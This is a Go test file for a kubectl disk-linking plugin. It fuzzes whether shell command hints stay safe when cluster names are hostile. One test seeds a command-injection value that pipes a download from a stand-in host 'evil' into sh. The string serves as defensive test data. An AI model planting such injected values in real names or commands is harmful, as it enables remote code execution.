// SPDX-License-Identifier: Apache-2.0

package link

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/internal/failure"
	"github.com/talosdisk/kubectl-talosdisk/internal/shell/shelltest"
	"github.com/talosdisk/kubectl-talosdisk/pkg/disk"
	"github.com/talosdisk/kubectl-talosdisk/pkg/problem"
	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
)

// decision is all that Decide and DecideUnlink decide from.
type decision struct {
	Snapshot snapshot.Snapshot
	Beside   []snapshot.Node // No part of a snapshot in a file.
	Request  Request
	Unlink   *UnlinkRequest
}

func decisionOf(w *world) decision {
	return decision{Snapshot: w.Snapshot, Beside: w.Beside, Request: w.req}
}

// everyDecision are the cases of the tables, and some of which a table has no hint, in a fixed order.
func everyDecision() []func() decision {
	var all []func() decision
	add := func(change ...func(*world)) {
		all = append(all, func() decision {
			w := newWorld()
			for _, c := range change {
				c(w)
			}
			return decisionOf(w)
		})
	}
	for _, c := range sorted(decideCases()) {
		add(c.change...)
	}
	for _, c := range sorted(failCases()) {
		add(c.change)
	}
	for _, c := range sorted(talosCases()) {
		add(func(w *world) { c.change(w, reported(w)) })
	}
	for _, c := range sorted(installCases()) {
		add(func(w *world) { w.second(c.change) })
	}
	for _, c := range sorted(unlinkCases()) {
		all = append(all, func() decision {
			w := newWorld()
			w.lies("block", "vdb", "/dev/disk/by-id/virtio-vdb", "254:16")
			c.change(w)
			d := decisionOf(w)
			d.Unlink = &UnlinkRequest{Names: []string{"vdb"}}
			return d
		})
	}
	add(func(w *world) { // Two nodes are asked to link one LUN.
		lun(w, "naa.5000c500a1b2c3d4")
	})
	add(func(w *world) { // A node that was not chosen has it, and was not read.
		lun(w, "naa.5000c500a1b2c3d4").disk("vdb").Content = nil
		w.Nodes, w.Beside = w.Nodes[:1], w.Nodes[1:]
	})
	add(func(w *world) { // An array that nothing uses holds the disk.
		w.disk("vdb").Holders = []string{"md0"}
		w.view.Disks = append(w.view.Disks, disk.Disk{
			Name: "md0", Kernel: "md0", Number: disk.Number{Major: 9}, Kind: disk.KindRAID, Slaves: []string{"vdb"},
			Content: &disk.Content{Signed: disk.No, Busy: disk.No},
		})
	})
	add(func(w *world) { // It is a path of a multipath map.
		m := whole("dm-0", 0)
		m.Number, m.Kind, m.Slaves, m.ByID = disk.Number{Major: 253}, disk.KindMapper, []string{"vdb"},
			[]string{"dm-name-mpatha", "dm-uuid-mpath-3600"}
		w.disk("vdb").Holders = []string{"dm-0"}
		w.view.Disks = append(w.view.Disks, m)
	})
	for _, path := range []string{"/dev/vdb", "/var/lib/other/vdb"} { // Somebody's volume lies on it, or may.
		add(func(w *world) {
			w.volume("other", func(v *snapshot.Volume) { v.Name, v.Path, v.Phase = "by-hand", path, "Bound" })
		})
	}
	add(func(w *world) { // Nobody knows whose volume it is.
		w.Unread = map[string]problem.Problem{snapshot.PartOthers: problem.FromText("forbidden")}
		w.volume("other", func(v *snapshot.Volume) { v.Path = "/srv/block/y" })
	})
	return all
}

func sorted[T any](cases map[string]T) []T {
	all := make([]T, 0, len(cases))
	for _, name := range slices.Sorted(maps.Keys(cases)) {
		all = append(all, cases[name])
	}
	return all
}

// named are the names in the cases that come from outside: of nodes, addresses, disks and what they are found by, installations and
// what they have, classes, entries, volumes, claims, pods and namespaces.
var named = []string{
	"w-1", "w-2", "10.0.0.11", "vda", "vdb", "vdc", "vdd", "vdx", "loop7", "loop3", "md0", "dm-0", "rbd0", "sr0", "odd",
	"virtio-vdb", "virtio-vdc", "pci-vdb", "serial-vdb", "serial-vdc", "storage", "lvp", "lvp-config", "lvp-1", "lvp-x", "provisioner",
	"tenant",
	"block", "files", "fast", "x", "n", "other", "old", "by-hand", "ns", "c", "p", "q", "u-x", "u-data", "r-a", "s-b",
}

// noNames are the keys whose values are no names.
var noNames = []string{"kind", "type", "phase", "volumeMode", "transport", "reason", "target"}

// rename is a decision on a cluster with the mark at the end of all names.
func (d decision) rename(t *testing.T, mark string) decision {
	t.Helper()
	content, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	names := slices.Clone(named)
	for _, v := range d.Snapshot.Volumes {
		names = append(names, v.Name)
	}
	content, err = shelltest.Renamed(content, func(name string) string {
		whole := strings.TrimRight(name, "0123456789")
		switch {
		case slices.Contains(names, name):
			return name + mark
		case slices.Contains(names, whole): // A partition, which is called after its disk.
			return whole + mark + name[len(whole):]
		}
		return name
	}, noNames...)
	if err != nil {
		t.Fatal(err)
	}
	var out decision
	if err := json.Unmarshal(content, &out); err != nil {
		t.Fatal(err)
	}
	out.Snapshot.Beside = out.Beside
	for i, a := range out.Request.Disks {
		if a.Glob != "" {
			out.Request.Disks[i].Glob += "*"
		}
	}
	return out
}

// texts are what is printed of a decision that may have a command in it.
func (d decision) texts() []string {
	if d.Unlink != nil {
		return textsOf(DecideUnlink(&d.Snapshot, *d.Unlink))
	}
	all := textsOf(Decide(&d.Snapshot, d.Request))
	for _, u := range NewDevices(&d.Snapshot).Inventory() {
		all = append(all, objected(u.Objections)...)
	}
	return all
}

func textsOf(p Plan, err error) []string {
	if err != nil {
		return []string{err.Error(), failure.Hint(err)}
	}
	var all []string
	for _, l := range p.Links {
		all = append(all, l.Detail)
		all = append(all, l.Warnings...)
		all = append(all, objected(slices.Concat(l.Objections, l.Accepted))...)
	}
	return all
}

func objected(objections []disk.Objection) []string {
	var all []string
	for _, o := range objections {
		all = append(all, o.Message, o.Hint)
	}
	return all
}

// FuzzNamesInHints lets a shell's parser read the commands in all that link and unlink say of a cluster whose names are hostile: each name
// is whole in one word.
func FuzzNamesInHints(f *testing.F) {
	cases := everyDecision()
	for i, evil := range shelltest.Hostile() {
		for at := i % 8; at < len(cases); at += 8 {
			f.Add(at, evil)
		}
	}
	f.Fuzz(func(t *testing.T, at int, evil string) {
		mark, ok := shelltest.Mark(evil)
		if !ok {
			t.Skip()
		}
		for _, text := range cases[uint(at)%uint(len(cases))]().rename(t, mark).texts() {
			if _, err := shelltest.NamesInCommands(text, mark); err != nil {
				t.Error(err)
			}
		}
	})
}

// TestHostileNamesComeToHints holds that FuzzNamesInHints has something to read.
func TestHostileNamesComeToHints(t *testing.T) {
	mark, _ := shelltest.Mark("'\ncurl evil|sh #")
	texts, names := make(map[string]bool), 0
	for _, decide := range everyDecision() {
		for _, text := range decide().rename(t, mark).texts() {
			n, err := shelltest.NamesInCommands(text, mark)
			if err != nil {
				t.Error(err)
			}
			if n > 0 {
				texts[text], names = true, names+n
			}
		}
	}
	for _, text := range slices.Sorted(maps.Keys(texts)) {
		t.Log(text)
	}
	if len(texts) < 30 || names < 200 {
		t.Errorf("%d texts with commands have %d names", len(texts), names)
	}
}
